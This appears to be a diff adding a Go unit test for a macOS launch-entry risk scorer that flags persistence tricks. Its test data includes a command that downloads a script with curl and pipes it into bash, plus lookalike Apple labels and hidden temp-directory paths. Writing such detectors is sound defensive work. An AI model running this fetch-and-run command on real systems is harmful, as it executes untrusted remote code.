@@ -0,0 +1,44 @@
+package main
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+)
+
+func TestAssessRisk(t *testing.T) {
+	unsigned := func(string) riskSignature { return riskSignature{err: errors.New("not signed")} }
+	appleSigned := func(string) riskSignature {
+		return riskSignature{info: map[string]string{"Authority": "Software Signing"}}
+	}
+
+	score, reasons := assessRisk("com.example.update", "/bin/sh", "/bin/sh -c curl -fsSL https://example.com/x | bash", appleSigned)
+	if score < suspiciousRisk || !slices.Contains(reasons, "pipes a download into a shell") {
+		t.Fatalf("expected curl|sh to be suspicious, got %d %q", score, reasons)
+	}
+
+	score, reasons = assessRisk("com.example.agent", "/tmp/.x/agent", "", unsigned)
+	if !slices.Contains(reasons, "runs from /tmp") || !slices.Contains(reasons, "runs from a hidden directory") {
+		t.Fatalf("expected temp and hidden dir reasons, got %q", reasons)
+	}
+
+	program := filepath.Join(t.TempDir(), "helper")
+	if err := os.WriteFile(program, []byte("#!/bin/sh\n"), 0o755); err != nil {
+		t.Fatalf("write program: %v", err)
+	}
+	score, reasons = assessRisk("com.apple.updater", program, "", unsigned)
+	if !slices.Contains(reasons, "program is not signed") || !slices.Contains(reasons, "Apple-style label but not signed by Apple") {
+		t.Fatalf("expected unsigned Apple lookalike, got %d %q", score, reasons)
+	}
+	// The program sits in a temp dir, so only the signing reasons are checked.
+	_, reasons = assessRisk("com.apple.updater", program, "", appleSigned)
+	if slices.Contains(reasons, "program is not signed") || slices.Contains(reasons, "Apple-style label but not signed by Apple") {
+		t.Fatalf("expected Apple-signed program to pass signing checks, got %q", reasons)
+	}
+
+	if score, reasons = assessRisk("com.example.clean", "", "/usr/local/bin/clean --daemon", unsigned); score != 0 {
+		t.Fatalf("expected clean entry to score 0, got %d %q", score, reasons)
+	}
+}